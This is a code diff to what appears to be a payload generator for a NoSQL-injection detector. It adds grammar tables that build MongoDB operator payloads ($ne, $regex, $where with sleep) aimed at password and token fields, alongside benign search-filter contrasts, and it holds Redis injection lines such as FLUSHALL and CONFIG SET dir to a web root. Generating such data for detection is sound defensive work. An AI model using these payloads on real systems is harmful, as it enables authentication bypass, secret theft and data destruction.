@@ -7,11 +7,26 @@ from models.generator.attacks.pieces import Grammar, Symbols, after_value
 
 # Tables: as many alternatives to a line as fit.
 # fmt: off
+# No search filters by these: an operator there is an attack, whatever its value.
+SECRETS = (
+    "password", "password", "password", "pass", "passwd", "pwd", "token", "token", "pin", "otp",
+    "secret", "reset_token", "resetToken", "passcode", "api_key", "apiKey", "access_token",
+    "user.password", "newPassword", "password_hash", "csrf", "auth_token",
+)
+# Searches filter by these too (models.generator.normals.hn_query_more).
+PUBLIC = (
+    "price", "status", "createdAt", "created_at", "date", "age", "score", "total", "rating",
+    "_id", "id", "user", "email", "name", "author", "title", "category", "size", "year", "amount",
+    "‹id›", "‹id›.‹id›", "tags", "quantity", "product",
+)
+
 _SYMBOLS: Symbols = {
     "f": (
-        "username", "user", "password", "email", "login", "_id", "token", "pin", "role", "‹id›",
-        "‹id›.‹id›", "name",
+        "username", "username", "login", "login", "role", "‹secret›", "‹secret›", "‹secret›",
+        "‹secret›", "‹id›.‹secret›", "isAdmin", "user.name",
     ),
+    "secret": SECRETS,
+    "open": PUBLIC,
     "cmp": (
         "$ne", "$ne", "$gt", "$gt", "$gte", "$lt", "$lte", "$nin", "$exists", "$regex", "$eq",
         "$not", "$in", "$type", "$size", "$all",
@@ -21,10 +36,27 @@ _SYMBOLS: Symbols = {
         '"admin"', "{}", '"^.{‹d›}$"', "undefined", '"‹id›"',
     ),
     "opv": (
-        '{"$ne":‹v›}', '{"$gt":‹v›}', '{"‹cmp›":‹v›}', '{ "‹cmp›": ‹v› }', '{"$regex":"^‹abc›"}',
+        "‹bare›", "‹bare›", '{"‹cmp›":‹v›}', '{ "‹cmp›": ‹v› }', '{"$regex":"^‹abc›"}',
         '{"$regex":".*","$options":"i"}', '{"$in":["admin","‹name›","‹rnd›"]}',
-        '{"$nin":["‹name›"]}', '{"$not":{"$eq":‹v›}}', '{"$exists":true}', "{$ne:‹v›}", "{$gt:''}",
-        "{'$ne':'‹rnd›'}",
+        '{"$exists":true}', "{$gt:''}",
+    ),
+    # Under a name that a search has too, the operator and its value must say it.
+    "bare": (
+        '{"$ne":‹v›}', '{"$ne":‹v›}', '{"$gt":""}', '{"$regex":".*","$options":"i"}',
+        '{"$nin":["‹name›"]}', '{"$not":{"$eq":‹v›}}', "{$ne:‹v›}", "{'$ne':'‹rnd›'}",
+        '{"$regex":"^.{‹n8›}$"}', '{"$regex":".*"}', '{"$regex":"^(?!‹abc›)"}',
+    ),
+    "odd": (
+        '{"$regex":".*"}', '{"$regex":".{‹n8›}"}', '{"$regex":"^(?!‹abc›)"}', '{"$ne":"‹rnd›"}',
+        '{"$where":"‹js›"}', '{"$not":{"$eq":"‹rnd›"}}', '{"$nin":["‹rnd›"]}', "{$gt:''}",
+        '{"$gt":"","$regex":".+"}', "{'$ne':'‹rnd›'}", '{"$not":{"$regex":"^‹abc›$"}}',
+    ),
+    "sop": ("$ne", "$ne", "$gt", "$gt", "$regex", "$exists", "$gte", "$nin", "$not", "$lt", "$in"),
+    "so": (
+        '{"$ne":""}', '{"$ne":null}', '{"$ne":"‹rnd›"}', '{"$gt":""}', '{"$gt":""}', '{"$gte":""}',
+        '{"$regex":"^‹abc›"}', '{"$regex":".{‹n8›}"}', '{"$exists":true}', '{"$nin":["‹rnd›"]}',
+        '{"$lt":"~"}', '{"$not":{"$eq":"‹rnd›"}}', '{"$in":["‹rnd›","‹n›"]}', '{"$ne":‹n›}',
+        '{ "$gt": "" }', '{"$regex":"^.{‹n8›}$"}',
     ),
     "js": (
         "1==1", "this.‹f›.match(/^‹abc›/)", "sleep(‹n›)", "sleep(‹d›000)", "return true",
@@ -44,8 +76,22 @@ _BEHIND = Grammar(_SYMBOLS, finish=after_value(0.45))
 RULES = {
     **_GRAMMAR.rules(
         operator=(
-            "‹opv›", "‹opv›", '{"‹f›":‹opv›}', '{"‹cmp›":‹v›,"‹cmp›":‹v›}', "[‹opv›]",
+            "‹bare›", "‹bare›", '{"‹f›":‹opv›}', '{"‹f›":{"‹cmp›":‹v›,"‹cmp›":‹v›}}', "[‹bare›]",
             '{"‹f›":‹opv›,"‹f›":‹v›}',
+        ),
+        public_name=(
+            '{"‹open›":‹odd›}', '{"‹open›":‹odd›}', '{"‹open›":‹odd›,"‹open›":‹odd›}',
+            '{"filter":{"‹open›":‹odd›}}', "‹open›[$regex]=.*", "‹open›[$ne]=‹rnd›",
+            "‹open›[$where]=‹js›", '{"$or":[{},{"‹open›":"‹rnd›"}]}', "‹open›[$nin][]=‹rnd›",
+            "‹open›[$regex]=^.{‹n8›}",
+        ),
+        secret_name=(
+            '{"‹secret›":‹so›}', '{"‹secret›":‹so›}', '{"‹secret›":‹so›}',
+            '{"‹id›":{"‹secret›":‹so›}}',
+            '{"‹login¦user¦username¦email›":"‹name›","‹secret›":‹so›}',
+            '{"‹login¦user¦username¦email›":{"$ne":null},"‹secret›":‹so›}',
+            "‹secret›[‹sop›]=", "‹secret›[‹sop›]=‹rnd›", "‹secret›[$regex]=^‹abc›",
+            "‹login¦user¦username¦email›=‹name›&‹secret›[‹sop›]=‹abc?›", "?‹secret›[‹sop›]=1",
         ),
         login=(
             '{"username":‹opv›,"password":‹opv›}',
@@ -54,7 +100,7 @@ RULES = {
             '{"$or":[{"‹f›":"‹name›"},{"‹f›":‹opv›}]}',
         ),
         bracket=(
-            "[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=",
+            "[$ne]=‹rnd›", "‹f›[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=",
             "‹f›[‹cmp›]=‹name›&‹f›[‹cmp›]=‹rnd›", "?‹f›[‹cmp›]=‹n›", "‹f›[$regex]=^‹abc›.*",
             "‹f›[$in][]=‹name›&‹f›[$in][]=admin", "‹f›[‹cmp›]", "‹f›%5B‹cmp›%5D=‹n›",
             "‹f›[$where]=‹js›", "&‹f›[$nin][]=‹name›", "[$or][‹d›][‹f›]=‹rnd›",
@@ -74,7 +120,7 @@ RULES = {
             '{"$accumulator":{"init":"function(){‹js›}"}}', '{"‹f›":{"$elemMatch":‹opv›}}',
             '[{"$unionWith":"‹id›"},{"$match":{"‹f›":‹opv›}}]',
             '{"$and":[{"‹f›":‹opv›},{"$where":"‹js›"}]}',
-            '{"selector":{"_id":{"$gt":null}},"‹id›":‹n›}',
+            '{"selector":{"‹secret›":{"$gt":null}},"‹id›":‹n›}',
         ),
         other_stores=(
             "\r\nFLUSHALL\r\n‹rnd›", "\r\nCONFIG SET dir /var/www/‹id›\r\n",
